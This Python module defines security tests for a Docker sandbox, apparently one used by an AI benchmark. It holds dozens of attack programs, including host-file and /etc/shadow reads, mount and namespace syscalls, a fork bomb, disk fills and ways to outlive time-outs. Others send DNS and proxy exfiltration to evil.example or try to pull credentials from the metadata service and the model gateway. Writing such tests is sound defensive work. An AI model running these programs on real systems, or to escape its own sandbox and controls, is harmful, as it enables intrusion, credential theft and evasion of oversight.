"""The attempts on the Docker sandbox: what a program tries, what it must see, and why it is refused. The table of docs/security.md.

A program prints `GOT IN` where it succeeds and `refused` with the system's own reason where it does not (see PRELUDE).
"""

from dataclasses import dataclass, field
from typing import Any

PRELUDE = r'''
import ctypes, errno, fcntl, mmap, os, platform, resource, socket, struct, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"
def call(function, *arguments):
    """A C function that returns -1 with errno."""
    ctypes.set_errno(0)
    result = getattr(libc, function)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), function)
    return result
def syscall(x86, arm, *arguments):
    return call("syscall", ctypes.c_long(arm if ARM else x86), *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
def attempt(what, function, *arguments):
    try:
        result = function(*arguments)
    except OSError as error:
        print("refused:", what, errno.errorcode.get(error.errno, error.errno), flush=True)
    else:
        print("GOT IN:", what, repr(result)[:200], flush=True)
def connect(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.settimeout(3)
        one.connect((address, port))
def put(path, text):
    with open(path, "w") as file:
        file.write(text)
def first(path, count=64):
    with open(path, "rb") as file:
        return file.read(count)
'''


@dataclass(frozen=True)
class Attempt:
    """One program and its refusal."""

    name: str
    tries: str
    """What it tries, for the table."""
    program: str
    """Python below PRELUDE, or a shell command when it starts with `$ `. `{name}` is filled in by the test (PLACES)."""
    seen: tuple[str, ...]
    """Regular expressions, each of which must be found in the output."""
    refused_by: str
    """What refuses it, for the table."""
    limits: dict[str, Any] = field(default_factory=dict)
    """Of a container of its own; without any the attempt does no damage and shares one."""
    kind: str = "exited"
    """How the command must end (base.ExitKind)."""
    seconds: float = 30
    own: bool = False
    """A container of its own, with the usual limits."""


PLACES = ("marker", "port", "bridge", "abstract", "sibling")
"""What programs are told of the host: a file, a port on all its addresses, its bridge address, an abstract socket, a container."""

EPERM = "EPERM"

HOST_FILES = (
    Attempt(
        "host-file", "read a file of the host by its path", 'attempt("host file", first, "{marker}")',
        ("refused: host file ENOENT",), "own file system; the workspace is the only mount",
    ),
    Attempt(
        "dots", "climb out of the workspace with `..`", 'attempt("dots", first, "/workspace/" + "../" * 12 + "{marker}".lstrip("/"))',
        ("refused: dots ENOENT",), "own mount namespace",
    ),
    Attempt(
        "proc-root", "enter the first process's root by /proc",
        'attempt("root", os.listdir, "/proc/1/root/")\nattempt("cwd", os.listdir, "/proc/1/cwd/")',
        ("refused: root EACCES", "refused: cwd EACCES"), "the first process belongs to another user",
    ),
    Attempt(
        "shadow", "read the image's password hashes", 'attempt("shadow", first, "/etc/shadow")',
        ("refused: shadow EACCES",), "no root, no capabilities",
    ),
    Attempt(
        "file-handle", "open a host inode by a guessed file handle (`open_by_handle_at`)",
        'handle = ctypes.create_string_buffer(struct.pack("IiQQ", 8, 1, 2, 0))\n'
        'place = os.open("/workspace", os.O_RDONLY)\nattempt("handle", syscall, 304, 265, place, handle, 0)',
        ("refused: handle EPERM",), "no CAP_DAC_READ_SEARCH; the call is not in the seccomp profile",
    ),
    Attempt(
        "write-image", "change programs that later commands run",
        'for place in ("/usr/bin/x", "/opt/venv/x", "/etc/ld.so.preload", "/x", "/root/x"):\n    attempt(place, put, place, "x")',
        (r"/usr/bin/x E(ROFS|ACCES)", r"/opt/venv/x E(ROFS|ACCES)", r"ld.so.preload E(ROFS|ACCES)"), "read-only root file system",
    ),
)  # fmt: skip

KERNEL = (
    Attempt(
        "proc-sys", "write kernel settings below /proc",
        'for place in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/overcommit_memory",\n'
        '              "/proc/sysrq-trigger", "/proc/irq/default_smp_affinity"):\n    attempt(place, put, place, "1")',
        (r"core_pattern E(ROFS|ACCES)", r"overcommit_memory E(ROFS|ACCES)", r"sysrq-trigger E(ROFS|ACCES|NOENT)"), "read-only mounts over /proc; no root",
    ),
    Attempt(
        "proc-kcore", "read the machine's memory by /proc/kcore, /dev/mem, /dev/kmsg",
        'try:\n    held = first("/proc/kcore")\nexcept OSError as error:\n    held = b""\nprint("refused: kcore empty" if not held else "GOT IN")\n'
        'for place in ("/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/port"):\n    attempt(place, first, place)',
        ("kcore empty", r"/dev/mem E(NOENT|ACCES)", r"/dev/kmsg E(NOENT|ACCES)"), "masked paths, a /dev of its own",
    ),
    Attempt(
        "sys", "find anything writable below /sys",
        '$ find /sys -writable -type f 2>/dev/null | head -3 | sed "s/^/GOT IN /"; (echo x >/sys/kernel/mm/ksm/run) 2>&1 | sed "s/^/refused /"',
        ("refused .*(Read-only|denied|No such)",), "/sys is mounted read-only",
    ),
    Attempt(
        "cgroup", "raise the container's own limits by its control group",
        'for place in ("/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/pids/pids.max",\n'
        '              "/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/memory/release_agent"):\n    attempt(place, put, place, "99999999999")',
        (r"refused: \S*memory\S* E(ROFS|ACCES)",), "control groups are mounted read-only",
    ),
    Attempt(
        "devices", "make or find a disk device",
        'attempt("mknod", os.mknod, "/workspace/disk", 0o600 | 0o060000, os.makedev(8, 0))\n'
        'import stat\nprint("blocks", [name for name in os.listdir("/dev") if stat.S_ISBLK(os.stat("/dev/" + name).st_mode)])',
        ("refused: mknod EPERM", r"blocks \[\]"), "no CAP_MKNOD, a /dev of its own, device control group",
    ),
    Attempt(
        "mount", "mount a file system, also over what is there",
        'attempt("tmpfs", call, "mount", b"x", b"/workspace", b"tmpfs", 0, None)\n'
        'attempt("remount", call, "mount", b"", b"/", b"", 32, None)\nattempt("bind", call, "mount", b"/", b"/workspace", b"", 4096, None)\n'
        'attempt("umount", call, "umount2", b"/proc", 2)',
        ("tmpfs EPERM", "remount EPERM", "bind EPERM", "umount EPERM"), "no CAP_SYS_ADMIN; not in the seccomp profile",
    ),
    Attempt(
        "new-mount-api", "the same by fsopen, open_tree and move_mount",
        'attempt("fsopen", syscall, 430, 430, b"tmpfs", 0)\nattempt("open_tree", syscall, 428, 428, -100, b"/", 1)\n'
        'attempt("move_mount", syscall, 429, 429, -100, b"/", -100, b"/workspace", 0)\nattempt("pivot_root", syscall, 155, 41, b"/tmp", b"/tmp")\n'
        'attempt("chroot", os.chroot, "/tmp")',
        ("fsopen EPERM", "open_tree EPERM", "move_mount EPERM", "pivot_root EPERM", "chroot EPERM"), "not in the seccomp profile",
    ),
    Attempt(
        "namespaces", "become root in a user namespace (`unshare`, `clone`, `clone3`, `setns`)",
        'attempt("unshare", call, "unshare", 0x10000000)\nattempt("unshare net", call, "unshare", 0x40000000)\n'
        'attempt("clone", syscall, 56, 220, 0x10000000 | 17, 0, 0, 0, 0)\n'
        'attempt("clone3", syscall, 435, 435, ctypes.create_string_buffer(64), 64)\n'
        'attempt("setns", call, "setns", os.open("/proc/self/ns/user", os.O_RDONLY), 0)',
        ("unshare EPERM", "unshare net EPERM", "clone EPERM", "clone3 ENOSYS", "setns EPERM"), "seccomp profile: no new namespaces",
    ),
    Attempt(
        "modules", "load a kernel module, another kernel, or restart the machine",
        'attempt("init_module", syscall, 175, 105, b"x", 1, b"")\nattempt("kexec_load", syscall, 246, 104, 0, 0, None, 0)\n'
        'attempt("reboot", call, "reboot", 0x1234567)',
        ("init_module EPERM", "kexec_load EPERM", "reboot EPERM"), "no capabilities; not in the seccomp profile",
    ),
    Attempt(
        "bpf-perf", "load BPF programs, open performance counters",
        'attempt("bpf", syscall, 321, 280, 5, ctypes.create_string_buffer(128), 128)\n'
        'attempt("perf", syscall, 298, 241, ctypes.create_string_buffer(128), 0, -1, -1, 0)',
        ("bpf EPERM", "perf EPERM"), "not in the seccomp profile",
    ),
    Attempt(
        "io_uring", "use io_uring and userfaultfd, often the way to kernel bugs",
        'attempt("io_uring", syscall, 425, 425, 8, ctypes.create_string_buffer(120))\nattempt("userfaultfd", syscall, 323, 282, 0)',
        ("io_uring EPERM", "userfaultfd EPERM"), "not in the seccomp profile",
    ),
    Attempt(
        "keyring", "read or add kernel keys, which containers of one user share",
        'attempt("add_key", syscall, 248, 217, b"user", b"x", b"y", 1, -3)\nattempt("request_key", syscall, 249, 218, b"user", b"x", None, -3)\n'
        'attempt("keyctl", syscall, 250, 219, 0, -3, 0)',
        ("add_key EPERM", "request_key EPERM", "keyctl EPERM"), "not in the seccomp profile",
    ),
    Attempt(
        "compat", "enter the kernel by its 32-bit calls, past the filter",
        'code = mmap.mmap(-1, 4096, prot=7)\ncode.write(bytes.fromhex("b814000000cd80c3"))\n'
        'if ARM:\n    print("refused: no 32-bit calls on this machine")\nelif os.fork() == 0:\n'
        '    place = ctypes.addressof(ctypes.c_char.from_buffer(code))\n    print("GOT IN", ctypes.CFUNCTYPE(ctypes.c_int)(place)(), flush=True)\n'
        '    os._exit(0)\nelse:\n    print("refused: ended by signal", os.waitstatus_to_exitcode(os.wait()[1]))',
        ("refused: (ended by signal -31|no 32-bit)",), "seccomp profile: one architecture, the rest ends the process",
    ),
    Attempt(
        "clock", "set the clock or the machine's name",
        'attempt("clock", time.clock_settime, time.CLOCK_REALTIME, 0)\nattempt("name", socket.sethostname, "x")',
        ("clock EPERM", "name EPERM"), "no capabilities; not in the seccomp profile",
    ),
)  # fmt: skip

PROCESSES = (
    Attempt(
        "root", "become root or another user",
        'attempt("setuid", os.setuid, 0)\nattempt("setgid", os.setgid, 0)\nattempt("setgroups", os.setgroups, [0])\n'
        'attempt("keeper", os.setuid, 65534)\nprint("uid", os.geteuid())',
        ("setuid EPERM", "setgid EPERM", "setgroups EPERM", "keeper EPERM", r"uid [1-9]"), "no capabilities",
    ),
    Attempt(
        "setuid-programs", "gain by set-uid programs and file capabilities",
        'print(*(line for line in open("/proc/self/status") if line.startswith(("Cap", "NoNew", "Seccomp:"))), sep="")\n'
        'print(subprocess.run(["su", "-c", "id -u"], capture_output=True, text=True, stdin=subprocess.DEVNULL).stdout.strip() == "0" and "GOT IN")\n'
        'attempt("ambient", call, "prctl", 47, 2, 21, 0, 0)',
        (r"CapBnd:\s+0{16}", r"CapEff:\s+0{16}", r"NoNewPrivs:\s+1", r"Seccomp:\s+2", "ambient EPERM"), "no-new-privileges, no capabilities at all",
    ),
    Attempt(
        "ptrace", "trace or read other processes (`ptrace`, `process_vm_readv`, /proc/PID/mem)",
        'child = os.fork()\nif child == 0:\n    time.sleep(20)\n    os._exit(0)\nattempt("child", call, "ptrace", 16, child, 0, 0)\n'
        'attempt("first", call, "ptrace", 16, 1, 0, 0)\nattempt("read", syscall, 310, 270, child, 0, 0, 0, 0, 0)\n'
        'attempt("memory", first, "/proc/1/mem")\nos.kill(child, 9)',
        ("child EPERM", "first EPERM", "read EPERM", "memory EACCES"), "not in the seccomp profile; another user",
    ),
    Attempt(
        "keeper", "end the container's first processes",
        'attempt("init", os.kill, 1, 9)\n'
        'for pid in filter(str.isdigit, os.listdir("/proc")):\n'
        '    if os.stat("/proc/" + pid).st_uid == 65534:\n        attempt("keeper", os.kill, int(pid), 9)',
        ("init EPERM", "keeper EPERM"), "they run as another user",
    ),
    Attempt(
        "other-processes", "see processes of the host or of other containers",
        'names = [open(f"/proc/{pid}/cmdline").read().replace("\\0", " ") for pid in os.listdir("/proc") if pid.isdigit()]\n'
        'print("GOT IN" if any("{sibling}" in name or "pytest" in name for name in names) else "refused: only own", len(names))',
        (r"refused: only own \d{1,2}\n",), "PID namespace",
    ),
    Attempt(
        "secrets-in-the-environment", "read the runner's keys from environments and the process list",
        '$ (cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr "\\0" "\\n"; env; ps -ef) | grep -c "sk-mlrbench-can[a]ry"',
        (r"^0\n",), "no variable of the host is passed on",
    ),
    Attempt(
        "real-time", "take the processor by real-time scheduling or priority",
        'attempt("fifo", os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(50))\nattempt("nice", os.setpriority, os.PRIO_PROCESS, 0, -10)',
        ("fifo EPERM", "nice E(ACCES|PERM)"), "no CAP_SYS_NICE",
    ),
    Attempt(
        "rlimits", "raise own limits again",
        'for name in ("RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_CORE"):\n    kind = getattr(resource, name)\n'
        '    hard = resource.getrlimit(kind)[1]\n    print(name, hard)\n'
        '    try:\n        resource.setrlimit(kind, (hard + 1, hard + 1))\n        print("GOT IN")\n    except (ValueError, OSError):\n        print("refused:", name)',
        ("RLIMIT_CORE 0", "refused: RLIMIT_NOFILE", "refused: RLIMIT_FSIZE", "refused: RLIMIT_CORE"), "hard limits, no CAP_SYS_RESOURCE",
    ),
    Attempt(
        "descriptors", "use up the machine's open files",
        'kept = []\ntry:\n    while True:\n        kept.append(os.dup(0))\nexcept OSError as error:\n    print("refused:", errno.errorcode[error.errno], len(kept) < 17000)',
        ("refused: EMFILE True",), "RLIMIT_NOFILE",
    ),
)  # fmt: skip

NETWORK = (
    Attempt(
        "host-services", "reach services of the host by its bridge, its own addresses and loopback",
        'for name, address in (("bridge", "{bridge}"), ("loopback", "127.0.0.1"), ("any", "0.0.0.0")):\n'
        '    attempt(name, connect, address, {port})\n'
        'print("GOT IN" if subprocess.run(["getent", "hosts", "host.docker.internal"], capture_output=True).stdout else "refused: name")',
        ("bridge ENETUNREACH", "loopback ECONNREFUSED", "any ECONNREFUSED", "refused: name"), "no network: loopback of its own only",
    ),
    Attempt(
        "metadata", "ask the cloud's metadata service for credentials",
        'attempt("four", connect, "169.254.169.254", 80)\nattempt("six", connect, "fd00:ec2::254", 80, socket.AF_INET6)',
        ("four ENETUNREACH", "six E(NETUNREACH|ADDRNOTAVAIL)"), "no network",
    ),
    Attempt(
        "internet", "reach the internet by address",
        'attempt("four", connect, "198.51.100.1", 443)\nattempt("six", connect, "2001:db8::1", 443, socket.AF_INET6)\n'
        'one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nattempt("datagram", one.sendto, b"x", ("198.51.100.1", 123))',
        ("four ENETUNREACH", "six E(NETUNREACH|ADDRNOTAVAIL)", "datagram ENETUNREACH"), "no network",
    ),
    Attempt(
        "dns", "carry data out in DNS queries",
        'try:\n    print("GOT IN", socket.getaddrinfo("c2VjcmV0.example.com", 80))\nexcept socket.gaierror as error:\n    print("refused: name")\n'
        'servers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]\n'
        'for server in servers + ["198.51.100.53"]:\n    one = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)\n'
        '    attempt("query", one.sendto, b"x", (server, 53))',
        ("refused: name", "query E(NETUNREACH|ADDRNOTAVAIL)"), "no network, and no resolver inside",
    ),
    Attempt(
        "raw-sockets", "send raw packets, listen to the wire",
        'attempt("raw", socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)\nattempt("raw6", socket.socket, socket.AF_INET6, socket.SOCK_RAW, 58)\n'
        'attempt("packet", socket.socket, 17, socket.SOCK_RAW, 768)\nattempt("ping", socket.socket, socket.AF_INET, socket.SOCK_DGRAM, 1)',
        ("raw EPERM", "raw6 EPERM", "packet EPERM", "ping EPERM"), "no CAP_NET_RAW; seccomp profile: TCP and UDP only",
    ),
    Attempt(
        "odd-sockets", "use rare protocols of the kernel (vsock to the hypervisor, AF_ALG, netfilter, SCTP, Bluetooth)",
        'for name, family, kind, protocol in (("vsock", 40, 1, 0), ("alg", 38, 5, 0), ("netfilter", 16, 3, 12), ("audit", 16, 3, 9),\n'
        '        ("sctp", 2, 1, 132), ("mptcp", 2, 1, 262), ("bluetooth", 31, 3, 1), ("can", 29, 3, 1), ("xdp", 44, 3, 0), ("tipc", 30, 2, 0)):\n'
        '    attempt(name, socket.socket, family, kind, protocol)',
        ("vsock EPERM", "alg EPERM", "netfilter EPERM", "audit EPERM", "sctp EPERM", "mptcp EPERM", "bluetooth EPERM", "xdp EPERM"),
        "seccomp profile",
    ),
    Attempt(
        "interfaces", "add an interface, an address or a route",
        'one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n'
        'request = struct.pack("16sH2s4s8s", b"lo", socket.AF_INET, b"", bytes([192, 0, 2, 9]), b"")\n'
        'attempt("address", fcntl.ioctl, one, 0x8916, request)\nattempt("tap", first, "/dev/net/tun")\n'
        'print("interfaces", [name for _, name in socket.if_nameindex()])',
        ("address EPERM", "tap E(NOENT|ACCES)", r"interfaces \['lo'\]"), "no CAP_NET_ADMIN",
    ),
    Attempt(
        "abstract-sockets", "reach a program of the host by its abstract unix socket",
        'one = socket.socket(socket.AF_UNIX)\nattempt("abstract", one.connect, "\\0{abstract}")',
        ("abstract ECONNREFUSED",), "network namespace, which abstract names belong to",
    ),
    Attempt(
        "other-containers", "reach another container on the host",
        'attempt("sibling", connect, "{sibling}", 8000)', ("sibling ENETUNREACH",), "no network",
    ),
    Attempt(
        "docker-socket", "find the Docker engine's socket",
        '$ find / -xdev \\( -name "docker*.sock" -o -name "containerd*.sock" \\) 2>/dev/null | sed "s/^/GOT IN /"; '
        'ls /var/run/docker.sock /run/docker.sock 2>&1 | sed "s/^/refused: /"',
        ("refused: .*No such file",), "not mounted",
    ),
)  # fmt: skip

SMALL = {"memory": 256 * 2**20, "cpus": 1.0, "pids": 48, "disk": 48 * 2**20, "entries": 3000}

RESOURCES = (
    Attempt(
        "fork-bomb", "fill the machine with processes", "$ bomb() { bomb | bomb & }; bomb; sleep 60",
        (), "pids limit; all of it is ended with the command", limits=SMALL, kind="timeout", seconds=1.5,
    ),
    Attempt(
        "memory-bomb", "take all memory", "kept = []\nwhile True:\n    kept.append(bytearray(2**24))",
        (), "memory limit, swap included", limits=SMALL, kind="oom",
    ),
    Attempt(
        "memory-in-files", "take memory by files in /dev/shm and /tmp",
        '$ for place in /dev/shm /tmp; do dd if=/dev/zero of=$place/x bs=1M count=4000 2>&1 | sed "s/^/refused: /"; rm -f $place/x; done',
        (r"No space left[\s\S]*No space left",), "both have a size, and count as the container's memory",
    ),
    Attempt(
        "names-in-memory", "use up kernel memory by names in /tmp",
        'os.mkdir("/tmp/many")\ntry:\n    for number in range(10**6):\n        os.close(os.open(f"/tmp/many/{number}", os.O_CREAT))\n'
        'except OSError as error:\n    print("refused:", errno.errorcode[error.errno], number < 250_000)',
        ("refused: ENOSPC True",), "nr_inodes of the tmpfs", own=True,
    ),
    Attempt(
        "disk-fill", "fill the host's disk",
        '$ for i in $(seq 1000); do dd if=/dev/zero of=f$i bs=1M count=20 2>/dev/null; sleep 0.02; done',
        ("killed: the workspace holds more than the",), "the disk watch ends the command", limits=SMALL, kind="killed",
    ),
    Attempt(
        "disk-fill-unseen", "fill it with a file that has no name any more",
        'files = []\nfor number in range(1000):\n    files.append(open("f", "wb"))\n    os.unlink("f")\n'
        '    for _ in range(20):\n        files[-1].write(bytes(2**20))\n        files[-1].flush()\n    time.sleep(0.02)',
        ("killed: the workspace holds more than the",), "the disk watch also looks at open files", limits=SMALL, kind="killed",
    ),
    Attempt(
        "huge-file", "make one huge file, sparse or not",
        'import signal\nsignal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n'
        'attempt("sparse", os.truncate, os.open("sparse", os.O_CREAT | os.O_RDWR), 2**40)\n'
        'attempt("allocated", os.posix_fallocate, os.open("real", os.O_CREAT | os.O_RDWR), 0, 2**40)',
        ("sparse EFBIG", "allocated E(FBIG|NOSPC)"), "RLIMIT_FSIZE is the disk limit", own=True,
    ),
    Attempt(
        "inode-fill", "use up the host's inodes",
        '$ for i in $(seq 200); do mkdir d$i; (cd d$i; touch $(seq 100)); sleep 0.05; done; sleep 20',
        ("killed: the workspace holds more than the 3000 files",), "the disk watch counts names too", limits=SMALL, kind="killed",
    ),
    Attempt(
        "log-flood", "fill the host's disk by output", "$ yes 0123456789abcdef",
        (), "output is kept up to a limit and only counted beyond", limits={**SMALL, "output": 2**20}, kind="timeout", seconds=1.5,
    ),
    Attempt(
        "zombies", "leave zombies behind that nobody waits for",
        'for _ in range(40):\n    if os.fork() == 0:\n        os._exit(0)\nprint("left", flush=True)\ntime.sleep(60)',
        ("left",), "ended with their parent; the container's init takes orphans", limits=SMALL, kind="timeout", seconds=1.5,
    ),
)  # fmt: skip

TIME = tuple(
    Attempt(name, tries, program, (), refused_by, limits=SMALL, kind="timeout", seconds=1)
    for name, tries, program, refused_by in (
        (
            "setsid", "outlive the time-out in a session of its own",
            "$ setsid sleep 4711 & (setsid bash -c 'sleep 4711 & sleep 4711' &); sleep 4711",
            "what a command started is known by its environment, not by its group",
        ),
        (
            "double-fork", "outlive it as a daemon without the environment",
            'if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.execve("/usr/bin/env", ["env", "-i", "sleep", "4711"], {})\n'
            '    os._exit(0)\ntime.sleep(4711)',
            "a process without the mark belongs to the command that is ended",
        ),
        (
            "trapped-signals", "outlive it by ignoring signals",
            '$ trap "" TERM INT HUP QUIT; env -i sleep 4711 & while true; do sleep 1; done',
            "ended by SIGKILL",
        ),
        (
            "stopped-timeout", "outlive it by stopping the program that watches the time",
            "$ kill -STOP $PPID; sleep 4711",
            "the host has a time-out of its own",
        ),
    )
)  # fmt: skip

LEAVING = (
    Attempt(
        "symlinks", "leave links to the host's files in the results",
        '$ ln -s /etc/shadow file; ln -s / folder; ln -s ../../.. up; ln -s self self', (), "only regular files are copied, no link is followed",
    ),
    Attempt(
        "hard-links", "leave hard links to files outside",
        '$ ln /etc/passwd passwd 2>&1 | sed "s/^/refused: /"; echo x > one; ln one two; [ -e passwd ] && echo GOT IN; true',
        (), "the workspace is a mount of its own; a file with a name outside is left out",
    ),
    Attempt("fifo", "hold the host by a FIFO that nobody writes to", "$ mkfifo pipe", (), "only regular files, opened without waiting"),
    Attempt(
        "unix-socket", "leave a socket that a program listens at",
        'one = socket.socket(socket.AF_UNIX)\none.bind("door")\none.listen()', (), "only regular files are copied",
    ),
    Attempt(
        "device", "leave a device file", '$ mknod zero c 1 5 2>&1; mknod disk b 8 0 2>&1; true', (), "no CAP_MKNOD; only regular files are copied",
    ),
    Attempt(
        "names", "use names that terminals, shells and browsers trip over",
        'for name in (b"new\\nline", b"esc\\x1b[2J", b"\\xff\\xfe", "\\u202egpj.exe".encode(), b"..\\n", b"-rf"):\n'
        '    with open(name, "w") as file:\n        file.write("x")',
        (), "control, format and undecodable characters are percent-encoded",
    ),
    Attempt(
        "sparse-files", "let a file of holes fill the run store", "$ truncate -s 900M sparse", (), "a file counts as long as it says it is",
    ),
    Attempt("many-files", "fill the run store with files", "$ touch $(seq 2000)", (), "number of files, bytes of one and of all"),
    Attempt(
        "deep-folders", "make folders too deep to walk",
        'for _ in range(300):\n    os.mkdir("d")\n    os.chdir("d")', (), "depth limit; folders are opened one below the other",
    ),
    Attempt(
        "archives", "leave archives that expand, or whose members climb out",
        'import gzip, io, tarfile, zipfile\n'
        'with zipfile.ZipFile("bomb.npz", "w", zipfile.ZIP_DEFLATED) as archive, archive.open("a.npy", "w", force_zip64=True) as member:\n'
        '    for _ in range(256):\n        member.write(bytes(2**20))\n'
        'with gzip.open("bomb.gz", "wb") as file:\n    for _ in range(256):\n        file.write(bytes(2**20))\n'
        'with tarfile.open("climb.tar", "w") as archive:\n    archive.addfile(tarfile.TarInfo("../../climbed"), io.BytesIO(b""))',
        (), "nothing is unpacked; readers of array files have a limit of what they unpack",
    ),
    Attempt(
        "set-uid-file", "leave a program that runs as its owner", "$ cp /bin/sh sh; chmod 4777 sh", (), "files arrive as 0644",
    ),
)  # fmt: skip

ASK = r"""
def ask(*requests):
    # The status lines that the proxy answers with, on one connection.
    found = []
    with socket.create_connection(("127.0.0.1", 3128), 10) as one:
        for request in requests:
            one.sendall(request.encode() + b"\r\n\r\n")
            said = b""
            while b"\r\n\r\n" not in said or (b"\r\nContent-Length: 5\r\n" in said and not said.endswith(b"hello")):
                said += (more := one.recv(65536))
                if not more:
                    break
            found.append(said.decode("latin-1").partition("\r\n")[0])
    return " | ".join(found)
def tunnel(address):
    answer = ask(f"CONNECT {address} HTTP/1.1\r\nHost: {address}")
    print("GOT IN" if " 200 " in answer else "refused:", address, answer)
"""

ALLOWLIST = (
    Attempt(
        "other-host", "reach a host that is not on the list", ASK + 'tunnel("evil.example:443")\ntunnel("198.51.100.1:443")',
        ("evil.example:443 HTTP/1.1 403", "198.51.100.1:443 HTTP/1.1 403"), "the proxy's list",
    ),
    Attempt(
        "dns-by-proxy", "carry data out in names that the proxy looks up", ASK + 'tunnel("c2VjcmV0LWRhdGE.evil.example:443")',
        ("HTTP/1.1 403",), "refused before any look-up",
    ),
    Attempt(
        "inside-by-proxy", "reach cloud metadata and the host's own services through the proxy, which runs on the host",
        ASK + 'for address in ("169.254.169.254:80", "127.0.0.1:{port}", "localhost:{port}", "0.0.0.0:{port}", "[::1]:{port}", "[::ffff:127.0.0.1]:{port}",\n'
        '        "2130706433:{port}", "0x7f.1:{port}"):\n    tunnel(address)',
        (r"169.254.169.254:80 HTTP/1.1 403", r"127.0.0.1:\d+ HTTP/1.1 403", r"localhost:\d+ HTTP/1.1 403"), "the proxy's list, by name and by address",
    ),
    Attempt(
        "other-port", "use another port of an allowed host", ASK + 'tunnel("{bridge}:22")\ntunnel("{bridge}:2375")',
        (r":22 HTTP/1.1 403", r":2375 HTTP/1.1 403"), "a host is allowed with its ports",
    ),
    Attempt(
        "second-request", "change the host on a connection that was allowed",
        ASK + 'here = "GET http://{bridge}:{port}/ HTTP/1.1\\r\\nHost: x"\nprint(ask(here, "GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example"))',
        (r"HTTP/1.1 200 \S+ \| HTTP/1.1 403",), "one host for each connection",
    ),
    Attempt(
        "past-the-proxy", "connect without the proxy", 'attempt("direct", connect, "{bridge}", {port})', ("direct ENETUNREACH",), "no network, as with `none`",
    ),
    Attempt(
        "forwarder", "end or replace what carries connections to the proxy",
        'for pid in filter(str.isdigit, os.listdir("/proc")):\n    if os.stat("/proc/" + pid).st_uid == 65534:\n        attempt("kill", os.kill, int(pid), 9)\n'
        'attempt("bind", socket.create_server, ("127.0.0.1", 3128))\nattempt("unlink", os.unlink, "/run/mlrbench/0/proxy.sock")\n'
        'print("files", sorted(set(os.listdir("/run/mlrbench/0")) - {"ca.pem"}))',
        ("kill EPERM", "bind EADDRINUSE", "unlink E(ROFS|ACCES)", r"files \['proxy.sock'\]"), "it runs as another user; the folder is mounted read-only",
    ),
)  # fmt: skip

CALL = r"""
import http.client, json, threading
TOKEN = os.environ["ANTHROPIC_API_KEY"]
def call(path="/anthropic/v1/messages", token=TOKEN, method="POST", **headers):
    one = http.client.HTTPConnection("127.0.0.1", 8377, timeout=20)
    body = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 9, "messages": [{"role": "user", "content": str(os.urandom(8))}]})
    one.request(method, path, body, {"x-api-key": token, "content-type": "application/json", **headers})
    answer = one.getresponse()
    return answer.status, answer.getheaders(), answer.read().decode()
"""

GATEWAY = (
    Attempt(
        "key-at-rest", "find the provider's real key in environments, the process list, files or sockets of the sandbox",
        '$ (cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr "\\0" "\\n"; env; ps -ef; '
        'grep -rsa "sk-the-hosts-[r]eal-key" /run /tmp /workspace /etc /dev/shm) | grep -ac "sk-the-hosts-[r]eal-key"',
        (r"^0\n",), "the key never enters the sandbox; it holds a token of this trial",
    ),
    Attempt(
        "key-in-memory", "read it from the memory of what carries the calls",
        'for pid in filter(str.isdigit, os.listdir("/proc")):\n    if os.stat("/proc/" + pid).st_uid == 65534:\n        attempt("memory", first, f"/proc/{pid}/mem")\n'
        '        attempt("maps", first, f"/proc/{pid}/maps")\n        attempt("descriptors", os.listdir, f"/proc/{pid}/fd")',
        ("memory EACCES", "maps E(ACCES|PERM)", "descriptors EACCES"), "the gateway runs on the host; the forwarder inside is another user's and sees only the token",
    ),
    Attempt(
        "key-in-answers", "make the gateway send the key back, or to a server of the program's own",
        CALL + 'said = [call(), call(token="wrong"), call("/anthropic/v1/messages", Host="{bridge}:{port}"), call("/anthropic/v1/messages?key=x"),\n'
        '    call("http://{bridge}:{port}/anthropic/v1/messages"), call("/anthropic/v1/messages@{bridge}:{port}/"), call("/anthropic//{bridge}:{port}/v1/messages"),\n'
        '    call("/anthropic/v1/messages", **{"X-Forwarded-Host": "{bridge}:{port}", "X-Original-URL": "http://{bridge}:{port}/"})]\n'
        'print("GOT IN" if "real-key" in str(said) else "refused: no key", [status for status, _, _ in said])',
        (r"refused: no key \[200, 401",), "fixed provider, headers by an allow-list",
    ),
    Attempt(
        "without-token", "use the gateway without the trial's token, or another way than to ask a model",
        CALL + 'print([call(token=token)[0] for token in ("", "x", TOKEN[:-1], TOKEN + "x", "sk-the-hosts-key")])\n'
        'print([call(path)[0] for path in ("/anthropic/v1/files", "/anthropic/v1/messages/batches", "/anthropic/v1/organizations/x", "/", "/anthropic/v1/../admin")])\n'
        'print([call(method=method)[0] for method in ("GET", "DELETE", "PUT")])',
        (r"\[401, 401, 401, 401, 401\]", r"\[404, 404, 404, 404, 404\]", r"\[404, 404, 404\]"), "token, paths by an allow-list",
    ),
    Attempt(
        "overspending", "spend past the budget with many calls at once",
        CALL + 'found = []\nwork = [threading.Thread(target=lambda: found.append(call())) for _ in range(40)]\n'
        '[one.start() for one in work]\n[one.join() for one in work]\n'
        'print("answered", sum(status == 200 for status, _, _ in found), "of", len(found))\nprint("then", *call()[::2])',
        (r"answered ([1-9]|1\d) of 40", r"then 403 .*budget"), "calls are admitted by their expected cost, and refused once the budget is spent",
    ),
)  # fmt: skip

ATTEMPTS = (*HOST_FILES, *KERNEL, *PROCESSES, *NETWORK, *RESOURCES, *TIME)

